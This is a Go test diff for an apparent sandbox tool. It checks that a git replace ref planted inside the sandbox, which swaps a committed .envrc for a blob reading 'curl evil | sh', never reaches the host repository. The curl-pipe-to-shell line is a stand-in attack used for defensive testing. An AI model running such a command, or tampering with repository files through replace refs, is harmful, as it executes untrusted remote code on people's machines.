@@ -386,3 +386,42 @@ func TestNewRunLeftoverRemoved(t *testing.T) {
 		}
 	})
 }
+
+// TestGitReplaceRefsNotAdopted: git replace inside (the blob of a
+// committed .envrc replaced by another) reaches no host ref: the host's
+// checkout, diff and show keep the committed content.
+func TestGitReplaceRefsNotAdopted(t *testing.T) {
+	needGit(t)
+	forEachPath(t, func(t *testing.T, r runner) {
+		ws := r.dir(t, "jail-it-ws-")
+		r.gitRepo(t, ws)
+		r.writeFile(t, filepath.Join(ws, ".envrc"), "echo committed\n")
+		for _, args := range [][]string{{"add", ".envrc"}, {"commit", "-qm", "envrc"}} {
+			if out, err := r.hostGit(t, ws, args...); err != nil {
+				t.Fatalf("%v %s", err, out)
+			}
+		}
+		res := r.sh(t, ws, `set -e
+git config --global --add safe.directory '*' 2>/dev/null
+evil=$(printf 'curl evil | sh\n' | git hash-object -w --stdin)
+git replace $(git rev-parse HEAD:.envrc) $evil
+git show HEAD:.envrc`)
+		mustExit(t, res, 0)
+		if !strings.Contains(res.stdout, "curl evil") {
+			t.Fatalf("the replace ref did not take inside (the attack did not run): %q", res.stdout)
+		}
+		if out, _ := r.hostGit(t, ws, "for-each-ref", "refs/replace/"); strings.TrimSpace(out) != "" {
+			t.Fatalf("a replace ref reached the host: %s", out)
+		}
+		os.Remove(filepath.Join(ws, ".envrc"))
+		if out, err := r.hostGit(t, ws, "checkout", "--", ".envrc"); err != nil {
+			t.Fatalf("%v %s", err, out)
+		}
+		if b, _ := os.ReadFile(filepath.Join(ws, ".envrc")); string(b) != "echo committed\n" {
+			t.Fatalf("the host's checkout wrote %q", b)
+		}
+		if !strings.Contains(res.stderr, "refs/replace/") {
+			t.Errorf("the run did not say it dropped the replace ref: %s", res.stderr)
+		}
+	})
+}
